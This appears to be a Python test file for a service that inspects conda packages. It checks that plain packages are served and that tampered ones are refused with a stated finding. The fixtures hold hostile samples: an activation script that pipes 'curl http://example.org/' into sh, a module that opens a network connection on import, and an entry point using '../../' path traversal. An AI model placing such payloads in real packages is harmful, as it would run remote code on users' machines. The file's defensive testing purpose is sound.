"""Conda packages are taken apart before anyone gets them: honest ones are installed by rattler, others refused with what
was found."""
import json

from house import conda
from test_conda import OfChannel


class Inspected(OfChannel):
    @classmethod
    def fill(cls):
        cls.make_channel()
        add = cls.channel.add
        cls.plain = {add("plain", "1.0"), add("older", "1.0", ending=".tar.bz2")}
        cls.evil = {  # what it is refused with, and its file
            "hidden-command: starts a shell command that is encoded": add("starts", "1.0", files={"etc/conda/activate.d/starts.sh": b"curl http://example.org/ | sh\n"}),
            "import-network: uses the network as soon as it is imported": add("calls", "1.0", ending=".tar.bz2", files={
                "site-packages/calls/__init__.py": b"import urllib.request\nurllib.request.urlopen('http://example.org/')\n"}),
            "conda-entry-point: has an entry point that is no name": cls.add_with("points", {"info/link.json": json.dumps(
                {"noarch": {"entry_points": ["../../x = points:main"]}}).encode()}),
            "conda-unlisted: has a file that info/paths.json does not list": cls.add_with("more", {"site-packages/more.py": b"x = 1\n"}),
            "conda-members: has other members than metadata.json": add("named", "1.0", data=conda.package(conda.index_of("other", "1.0"))),
        }

    @classmethod
    def add_with(cls, name, more):
        """A .tar.bz2 with further members, which info/paths.json does not list."""
        info, rest = conda.parts(conda.index_of(name, "1.0"), {})
        return cls.channel.add(name, "1.0", ending=".tar.bz2", data=conda.bz2.compress(conda.tar({**info, **rest, **more})))

    def test_honest_ones_are_served_as_they_are(self):
        self.records()
        for file in self.plain:
            with self.subTest(file):
                a = self.fetch(file)
                self.assertEqual(a.status, 200, a)
                self.assertEqual(a.body, self.channel.files["noarch"][file])

    def test_others_are_refused_with_what_was_found(self):
        self.records()
        for found, file in self.evil.items():
            with self.subTest(file):
                finding, text = found.split(": ")
                a = self.fetch(file)
                self.assertEqual(a.status, 403, a)
                self.assertIn(text, json.loads(a.body)["detail"])
                self.assertIn(finding, self.command("explain", file))

    def test_rattler_installs_the_one_and_prints_why_not_the_other(self):
        said, _ = self.rattler("plain", "older")
        self.assertEqual(set(said.get("solved", ())), self.plain, said)
        self.assertNotIn("error", said)
        said, _ = self.rattler(packages=[f"{self.service.url}/chan/noarch/starts-1.0-0.conda"])
        self.assertIn("starts a shell command that is encoded", said.get("error", ""), said)
